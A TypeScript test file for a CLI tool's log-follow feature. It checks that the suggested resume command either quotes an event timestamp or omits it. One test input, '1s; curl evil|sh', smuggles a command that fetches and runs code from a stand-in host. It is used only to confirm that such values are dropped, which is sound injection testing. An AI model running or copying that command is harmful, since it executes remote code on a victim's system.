import { expect, test } from "vitest";
import { awaitEnd } from "../../../src/commands/lib/follow/follow-record.ts";
import { invocationSubject } from "../../../src/commands/lib/follow/subject.ts";
import { CliError } from "../../../src/core/errors.ts";

test.each([
  ["2026-01-02T03:04:05.5+01:00", " --since 2026-01-02T03:04:05.5+01:00"],
  ["2026-01-02 03:04:05Z", " --since '2026-01-02 03:04:05Z'"],
  ["1s; curl evil|sh", ""],
])(
  "the line that continues a log after an event of %j has its time as a word, or not at all",
  async (timestamp, since) => {
    const subject = {
      ...invocationSubject("i1"),
      async *stream() {
        yield [{ kind: "event", raw: "", value: { event: "log", timestamp, message: "first" } }] as const;
        throw new CliError("unreachable", "it is gone", { code: "stream_broken", hint: "browserctl local start" });
      },
    };
    const unused = () => Promise.reject(new Error("nothing is called"));
    const tools = { call: unused, stream: unused, signal: new AbortController().signal } as never;
    await expect(awaitEnd(tools, subject)).rejects.toMatchObject({
      options: { hint: `browserctl local start && browserctl invocations tail i1${since}` },
    });
  },
);
